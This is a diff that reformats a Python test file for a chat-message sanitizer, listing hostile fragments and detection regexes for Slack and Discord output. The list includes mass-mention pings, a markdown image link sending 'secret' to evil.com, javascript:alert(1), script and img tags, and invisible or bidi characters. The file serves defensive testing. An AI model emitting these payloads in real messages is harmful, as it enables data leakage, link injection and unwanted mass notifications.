@@ -13,24 +13,34 @@ from markdown_it.token import Token
 
 from adapters.text import safe_url
 
-LINKS = {1: "https://wiki.example/휴가(1)", 2: "javascript:alert(1)", 3: "http://wiki:8090/a?b=1&lt;=2", 12: "https://w/@everyone/*x*"}
+LINKS = {
+    1: "https://wiki.example/휴가(1)",
+    2: "javascript:alert(1)",
+    3: "http://wiki:8090/a?b=1&lt;=2",
+    12: "https://w/@everyone/*x*",
+}
 
 HOSTILE = [
-    "@everyone", "@here", "@channel", "＠everyone", "@\u200beveryone", "@\u2060here", "\u202e@here", "<!channel>", "<!here|x>", "<!everyone>",
-    "<!subteam^S1>", "<!subteam^S1|팀>", "<!date^1^{date}^http://evil.com|x>", "<@U123>", "<@!1>", "<@&2>", "<#C1>", "<#C1|방>", "</cmd:1>",
-    "<t:1>", "<t:1:R>", "<:emo:1>", "<a:emo:1>", "<id:guide>", "![x](http://evil.com/?q=secret)", "![x][r]", "![[1]](http://evil.com)",
-    "[click](http://evil.com)", "[click](<http://evil.com>)", '[click](http://evil.com "제목")', "[a [b] c](http://evil.com)", "[click][r]", "[r]",
-    "[1](http://evil.com)", "[[1]](http://evil.com)", "\n[r]: http://evil.com\n", "\n[1]: http://evil.com\n", "<http://evil.com>", "<a@evil.com>",
-    "http://evil.com", "https://evil.com/a?b=c#d", "HTTPS://EVIL.COM", "www.evil.com", "www.1evil.x", "evil.com", "evil。com", "evil．com",
-    "kim@evil.com", "mailto:a@evil.com", "javascript:alert(1)", "slack://x", "discord://x", "steam://run", "//evil.com",
-    '<img src="http://evil.com/x.png">', "<a href='http://evil.com'>x</a>", "<script>", "<!-- x -->", "&lt;!channel&gt;", "&#60;@U1&#62;",
-    "&#x40;everyone", "&commat;here", "&amp;lt;!here&amp;gt;", "||spoiler||", "~~취소~~", "9~18시", "**굵게**", "**연차(15일)**는", "*기울임*", "__x__",
-    "_y_", "***", "**", "*", "_", "~", "~~", "`", "``", "```", "\n```\n", "\n```bash\n", "\n~~~\n", "`code`", "`@everyone`", "`http://evil.com`",
-    "`<!channel>`", "\\", "\\\\", "\\<", "\\@", "\\[", "\\`", "[", "]", "(", ")", "](", "![", "!", "<", ">", "&", ";", ":", "/", "//", "://",
-    "@", "!channel>", "everyone", "channel", "@U1>", "http", "https:", "evil.", ".com", "[1]", "[2]", "[3]", "[12]", "[99]", "[1][3]", "\n", "\n\n",
-    "\n- ", "\n* ", "\n1. ", "\n2024. 3. 5. ", "\n# ", "\n#### ", "\n> ", "\n>>> ", "\n-# ", "\n---\n", "\n===\n", "\n    ", "\t", "  ", " ",
-    "\n| a | b |\n| --- | --- |\n| @here | [1] |\n", "|", "\u200d", "\ufe0f", "\u202e", "\u2066", "\u00ad", "\U000e0041", "\ufeff", "\u3164",
-    "👨\u200d👩\u200d👧", "❤\ufe0f", "1\ufe0f\u20e3", "🇰🇷", "\r\n", "\r", "\u2028", "연차는 15일입니다.", "그룹웨어에서 신청하십시오.", "휴가", "3.5일",
+    "@everyone", "@here", "@channel", "＠everyone", "@\u200beveryone", "@\u2060here", "\u202e@here", "<!channel>",
+    "<!here|x>", "<!everyone>", "<!subteam^S1>", "<!subteam^S1|팀>", "<!date^1^{date}^http://evil.com|x>", "<@U123>",
+    "<@!1>", "<@&2>", "<#C1>", "<#C1|방>", "</cmd:1>", "<t:1>", "<t:1:R>", "<:emo:1>", "<a:emo:1>", "<id:guide>",
+    "![x](http://evil.com/?q=secret)", "![x][r]", "![[1]](http://evil.com)", "[click](http://evil.com)",
+    "[click](<http://evil.com>)", '[click](http://evil.com "제목")', "[a [b] c](http://evil.com)", "[click][r]",
+    "[r]", "[1](http://evil.com)", "[[1]](http://evil.com)", "\n[r]: http://evil.com\n", "\n[1]: http://evil.com\n",
+    "<http://evil.com>", "<a@evil.com>", "http://evil.com", "https://evil.com/a?b=c#d", "HTTPS://EVIL.COM",
+    "www.evil.com", "www.1evil.x", "evil.com", "evil。com", "evil．com", "kim@evil.com", "mailto:a@evil.com",
+    "javascript:alert(1)", "slack://x", "discord://x", "steam://run", "//evil.com",
+    '<img src="http://evil.com/x.png">', "<a href='http://evil.com'>x</a>", "<script>", "<!-- x -->",
+    "&lt;!channel&gt;", "&#60;@U1&#62;", "&#x40;everyone", "&commat;here", "&amp;lt;!here&amp;gt;", "||spoiler||",
+    "~~취소~~", "9~18시", "**굵게**", "**연차(15일)**는", "*기울임*", "__x__", "_y_", "***", "**", "*", "_", "~",
+    "~~", "`", "``", "```", "\n```\n", "\n```bash\n", "\n~~~\n", "`code`", "`@everyone`", "`http://evil.com`",
+    "`<!channel>`", "\\", "\\\\", "\\<", "\\@", "\\[", "\\`", "[", "]", "(", ")", "](", "![", "!", "<", ">", "&",
+    ";", ":", "/", "//", "://", "@", "!channel>", "everyone", "channel", "@U1>", "http", "https:", "evil.", ".com",
+    "[1]", "[2]", "[3]", "[12]", "[99]", "[1][3]", "\n", "\n\n", "\n- ", "\n* ", "\n1. ", "\n2024. 3. 5. ", "\n# ",
+    "\n#### ", "\n> ", "\n>>> ", "\n-# ", "\n---\n", "\n===\n", "\n    ", "\t", "  ", " ",
+    "\n| a | b |\n| --- | --- |\n| @here | [1] |\n", "|", "\u200d", "\ufe0f", "\u202e", "\u2066", "\u00ad",
+    "\U000e0041", "\ufeff", "\u3164", "👨\u200d👩\u200d👧", "❤\ufe0f", "1\ufe0f\u20e3", "🇰🇷", "\r\n", "\r", "\u2028",
+    "연차는 15일입니다.", "그룹웨어에서 신청하십시오.", "휴가", "3.5일",
 ]  # fmt: skip
 """Pieces whose compositions are dangerous, or nearly."""
 
@@ -46,8 +56,13 @@ texts = st.lists(
 
 _PING = re.compile(r"[@＠﹫](?:everyone|here|channel)|<[@＠#!]|</?[^\s<>]*:\d|<a?:|<t:|<id:", re.IGNORECASE)
 _SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*://")
-_DOMAIN = re.compile(r"(?<![\w.])(?:www\.\S|[A-Za-z0-9_-]*[A-Za-z][A-Za-z0-9_-]*[.。．｡][A-Za-z]{2,})|[A-Za-z0-9]@[A-Za-z0-9]", re.IGNORECASE)
-_IGNORABLE = re.compile("[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff]")
+_DOMAIN = re.compile(
+    r"(?<![\w.])(?:www\.\S|[A-Za-z0-9_-]*[A-Za-z][A-Za-z0-9_-]*[.。．｡][A-Za-z]{2,})|[A-Za-z0-9]@[A-Za-z0-9]",
+    re.IGNORECASE,
+)
+_IGNORABLE = re.compile(
+    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff]"
+)
 _DISCORD_LINK = re.compile(r"\[(?:[^\[\]]|\[[^\[\]]*\])*\]\(\s*<?([^\s<>)]*)")
 
 
@@ -62,7 +77,13 @@ def harms(out: str, platform: str, links: Mapping[int, str] = LINKS) -> list[str
     found = [f"bidi or invisible {one!r}" for one in set(_IGNORABLE.findall(_without_emoji(out)))]
     bare = without_links(out, allowed)
     # As it is, as a server might normalise it, and with entities decoded, once and twice.
-    for reading in (bare, _IGNORABLE.sub("", bare), unicodedata.normalize("NFKC", bare), html.unescape(bare), html.unescape(html.unescape(bare))):
+    for reading in (
+        bare,
+        _IGNORABLE.sub("", bare),
+        unicodedata.normalize("NFKC", bare),
+        html.unescape(bare),
+        html.unescape(html.unescape(bare)),
+    ):
         if platform == "discord" and reading is not bare and "&" in bare:
             continue  # Discord decodes no entities
         found += [f"ping {one!r}" for one in _PING.findall(_spaced(reading))]
